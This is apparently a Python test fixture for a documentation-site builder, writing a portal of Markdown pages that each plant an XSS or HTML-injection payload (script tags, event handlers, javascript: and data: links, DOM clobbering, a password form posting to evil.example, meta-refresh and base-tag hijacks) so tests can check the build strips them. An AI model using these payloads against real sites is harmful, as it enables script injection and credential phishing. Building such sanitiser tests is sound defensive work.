"""A portal of pages that attack, for the tests to build: each page plants one attack that once ran, and one page uses
all of Markdown.

The checks refuse most of these texts. Here they are put aside, as if none had: what is tested is what the build does
with such a text. Its settings switch on what an author could wish for: attribute lists, Markdown within HTML, icons.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from pathlib import Path

from trellis.pipeline.run import run_pipeline
from trellis.site.build import build_site

TODAY = date(2026, 11, 23)

SETTINGS = """\
site_name: A portal
site_url: https://host.example/learning/
docs_dir: content
theme: {name: material}
plugins:
  - search
  - macros: {module_name: hooks/macros, render_by_default: false, on_error_fail: true}
markdown_extensions:
  - abbr
  - attr_list
  - md_in_html
  - pymdownx.caret
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
      emoji_generator: !!python/name:material.extensions.emoji.to_svg
  - pymdownx.highlight: {anchor_linenums: true, line_spans: __span}
  - pymdownx.inlinehilite
  - pymdownx.keys
  - pymdownx.mark
  - pymdownx.tilde
"""

PEOPLE = "- id: ada\n  name: Ada\n"
TEAM = (
    "---\ntitle: Sales team\nsummary: Sells freight to shippers and keeps the promises that it sells.\nmanager: ada\n"
    "leads: [ada]\n---\nOur mission.\n"
)
HEAD = (
    "---\ntitle: The page {name}\nsummary: What everybody should have read once in their first week here.\n"
    "status: stable\n---\n\n"
)

ATTACKS = {
    "script": "<script>hit()</script>\n\nText <script>hit()</script> within.",
    "script-src": '<script src="https://evil.example/x.js"></script>\n<script type="module">hit()</script>',
    "script-broken": "<scr<script>ipt>hit()</scr</script>ipt>\n\n<SCRIPT/x>hit()</SCRIPT >\n\n<script\n"
    ">hit()</script\n>",
    "image-error": '<img src="x" onerror="hit()">\n\n<IMG SRC=x OnErRoR=hit()>\n\n<img src=x/onerror=hit()>\n\n'
    "<image src=x onerror=hit()>",
    "svg-load": '<svg onload="hit()"></svg>\n\n<svg><script>hit()</script></svg>\n\n'
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x '
    'xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"/></svg>',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
    "details-toggle": '<details open ontoggle="hit()"><summary>More</summary>Text</details>',
    "focus": '<input autofocus onfocus="hit()">\n\n<a tabindex=0 autofocus onfocus="hit()">x</a>',
    "within-html": '<div markdown onclick="hit()" onmouseover="hit()">\n\nText *within* [x](javascript:hit()).\n\n'
    "</div>",
    "frame": '<iframe srcdoc="<script>parent.hit()</script>"></iframe>\n\n'
    '<iframe src="javascript:parent.hit()"></iframe>\n\n<frameset onload=hit()>',
    "embed": '<object data="javascript:hit()"></object><embed src="javascript:hit()"><portal '
    'src="https://evil.example/"></portal>',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">\n\n'
    "<meta name=referrer content=unsafe-url>",
    "base": '<base href="https://evil.example/">\n\n[a link](../courses/plain/index.md)',
    "link-element": '<link rel="stylesheet" href="https://evil.example/x.css">\n\n'
    "<style>body { display: none }</style>",
    "form": '<form action="https://evil.example/"><label>Password <input name="password" '
    'type="password"></label><button>Go</button></form>',
    "fields": 'Log in: <input type="text" name="q"> <input> <textarea></textarea> <select><option>x</select> <button '
    "onclick=hit()>Go</button>",
    "overlay": '<div style="position:fixed;inset:0;z-index:999;background:#fff">Log in</div>\n\n'
    '<div class="md-overlay t-hero md-dialog" style="top:0">x</div>',
    "overlay-list": "A paragraph.\n{ style='position:fixed;inset:0' .md-search__overlay .t-flag .kept }\n\n"
    '!!! md-overlay t-hero "A title"\n    Text.',
    "list-handlers": '![x](y.png){ onerror="hit()" }\n\n## A heading { onmouseover="hit()" onclick="hit()" }\n\n'
    '[a](https://example.org/){ onclick="hit()" target="_top" }',
    "list-id": "## Breaks out { id='\"><img src=x onerror=hit()>' }\n\n## Another { id=__config }\n\n### Third",
    "javascript": "[x](javascript:hit()) [x](JaVaScRiPt:hit()) [x](javascript&colon;hit()) [x](java&#10;script:hit()) "
    "[x](java&#x09;script:hit())",
    "javascript-spaces": "[x](<java\tscript:hit()>) [x](< javascript:hit()>) [x](&#1;javascript:hit()) "
    "[x](&#106;&#97;vascript:hit()) [x](javascript%3Ahit())",
    "javascript-raw": '<a href="javascript:hit()">x</a> <a href="&#x6A;avascript:hit()">x</a> <a '
    'href="java&#0000010;script:hit()">x</a> <a href=" &#14; javascript:hit()">x</a> <a '
    'href="feed:javascript:hit()">x</a>',
    "other-schemes": "[x](vbscript:hit()) [x](data:text/html,<script>hit()</script>) "
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd) [x](blob:x) "
    "[x](mailto:a@b.example)",
    "autolink": "<javascript:hit()> <data:text/html,x> <https://example.org/>",
    "reference": '[x][one] [two] ![three]\n\n[one]: javascript:hit() "title"\n'
    "[two]: data:text/html,<script>hit()</script>\n[three]: javascript:hit()",
    "link-title": '[x](https://example.org/ \'"onmouseover="hit()\') ![x](y.png "\\"><script>hit()</script>")\n\n'
    '[x]: # "<script>hit()</script>"',
    "image-address": "![x](javascript:hit()) ![x](https://evil.example/x.png) ![x](//evil.example/x.png) "
    "![x](data:image/svg+xml,<svg/onload=hit()>) <img src='/\\evil.example/x.png' "
    "srcset='https://evil.example/x.png 2x'>",
    "table": "| a | b |\n|---|--:|\n| <img src=x onerror=hit()> | <script>hit()</script> |\n"
    "| [x](javascript:hit()) | `<script>` |",
    "footnote": "Text[^1].\n\n[^1]: <img src=x onerror=hit()> and [x](javascript:hit())\n\n"
    '[^"><img src=x onerror=hit()>]: y',
    "fence-info": '``` { .python onclick="hit()" title="<img src=x onerror=hit()>" }\nx = \'<script>hit()</script>\'\n'
    '```\n\n```"><script>hit()</script>\ny\n```\n\n'
    '```html linenums="1" hl_lines="1" title="\\"><img src=x onerror=hit()>"\n<script>hit()</script>\n'
    "```",
    "admonition-title": '!!! note "<img src=x onerror=hit()>"\n    Text.\n\n??? tip "<script>hit()</script>"\n'
    '    Text.\n\n!!! \\"onmouseover=hit() "x"\n    Text.',
    "tab-title": '=== "<img src=x onerror=hit()>"\n    One.\n\n=== "<script>hit()</script>"\n    Two.',
    "heading": "## <img src=x onerror=hit()> Heading\n\n## &lt;img src=x onerror=hit()&gt; entity\n\n"
    "## `<script>hit()</script>` code\n\n## \\<img src=x onerror=hit()\\> escaped",
    "definition": '<img src=x onerror=hit()>\n:   [x](javascript:hit())\n\n*[HTML]: "><script>hit()</script>\n\nHTML',
    "task": "- [ ] <img src=x onerror=hit()>\n- [x] <script>hit()</script>",
    "comment": "<!--><img src=x onerror=hit()>-->\n\n<!-- --!><img src=x onerror=hit()> -->\n\n"
    "<![CDATA[<img src=x onerror=hit()>]]>\n\n<?php hit() ?>",
    "unclosed": '<img src="x" onerror="hit()"\n\nA paragraph.\n\n<div title="',
    "closing": "</div></section></main></div></body></html><script>hit()</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>\n\n'
    "<xmp><img src=x onerror=hit()></xmp>\n\n<plaintext>",
    "template-element": "<template><script>hit()</script></template><template shadowrootmode=open><img src=x "
    "onerror=hit()></template>",
    "clobber": '<a id="__config"></a><img name="__md_get" id="__search"><form id="__consent" name="consent"><input '
    'name="elements"></form><label for="__search">x</label>\n\n## __config\n\n## __page',
    "clobber-component": '<div data-md-component="search" data-md-toggle="drawer" data-t-catalogue data-t-form '
    "hidden>x</div>",
    "clobber-words": "".join(
        f"## {word}\n\nText.\n\n"
        for word in (
            "Exports",
            "Module",
            "Define",
            "Require",
            "Process",
            "Location",
            "Document",
            "Top",
            "Target",
            "Search",
            "Evidence",
            "Rubric",
        )
    ),
    "stylish": '<p style="background:url(https://evil.example/x)">x</p><font color=red>x</font><marquee '
    "onstart=hit()>x</marquee>",
    "media": '<video src=x onerror=hit()><source src="https://evil.example/x"></video><audio autoplay '
    'onloadstart=hit() src="https://evil.example/x">',
    "encoded": "%3Cscript%3Ehit()%3C/script%3E &lt;script&gt;hit()&lt;/script&gt; \\u003cscript\\u003e "
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "redirect-script": '<a href="https://example.org/" ping="https://evil.example/" download target=_blank '
    "rel=opener>x</a>",
}
"""Name → the text of a page. Whatever of it runs calls `hit`."""

FEATURES = """\
## Second heading

Text with **bold**, *italic*, `code`, ~~gone~~, <ins>new</ins>, <kbd>K</kbd>,
<sub>low</sub>, <sup>high</sup>, <mark>raw</mark>, a footnote[^n], \
<abbr title="Hypertext Markup Language">HTML</abbr>, www.example.com,
a [link](../courses/plain/index.md "its title"),
[another site](https://example.org/), [a part](#third-heading), <https://example.net/> and a line<br>
break.

[^n]: What it says.

### Third heading

![A picture](picture.png)

1. One
2. Two
    - Below

- [x] done
- [ ] to do

Term
:   What it means.

> A quotation.

| Left | Centre | Right |
|:-----|:------:|------:|
| a    | b      | c     |

!!! note "A title"
    An admonition.

!!! house-style inline end
    Of a type of our own.

???+ tip "Opens"
    Details.

=== "First"
    One.

=== "Second"
    Two.

``` { .python linenums="1" hl_lines="2" title="rates.py" }
rate = 1
floor = 2
```

```text
plain
```

> [!WARNING]
> Mind the gap.

---

<div class="grid cards" markdown>

- A card

</div>
"""

COURSE = (
    "---\ntitle: A plain course\nsummary: What anybody needs to know before they do this.  \nstatus: mvp\n"
    "sunset: 2027-06-30\ntier: individual\nmode: self-paced\naliases: [former]\n---\n\n## Why\n\n"
    "<script>hit()</script>Text [x](javascript:hit()).\n"
)
LESSON = (
    "---\ntitle: First lesson\ntype: read\nminutes: 5\n---\n\n## One\n\n<script>hit()</script>Text.\n\n## Evidence\n\n"
    "<img src=x onerror=hit()>\n"
)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b550000000a4944415478da6360000000020001e221bc33000"
    "0000049454e44ae426082"
)

PAGES = {name: HEAD.format(name=name) + text + "\n" for name, text in ATTACKS.items()}
FILES: dict[str, str | bytes] = {
    "mkdocs.yml": SETTINGS,
    "hooks/macros.py": "from trellis.site import blocks\n\n\ndef define_env(env):\n    blocks.offer(env)\n",
    "content/people.yml": PEOPLE,
    "content/sales/index.md": TEAM,
    "content/sales/courses/plain/index.md": COURSE,
    "content/sales/courses/plain/01-first.md": LESSON,
    "content/sales/pages/picture.png": PNG,
    "content/sales/pages/features.md": HEAD.format(name="features") + FEATURES,
    **{f"content/sales/pages/{name}.md": text for name, text in PAGES.items()},
}


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    """Writes the files below `root`, and returns it."""
    for path, text in files.items():
        file = root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(text if isinstance(text, bytes) else text.encode())
    return root


def build_unchecked(root: Path) -> Path:
    """The portal at `root`, built as if the checks had found nothing; returns the folder of the site."""
    build_site(root, root / "out", replace(run_pipeline(root, TODAY), diagnostics=()))
    return root / "out"
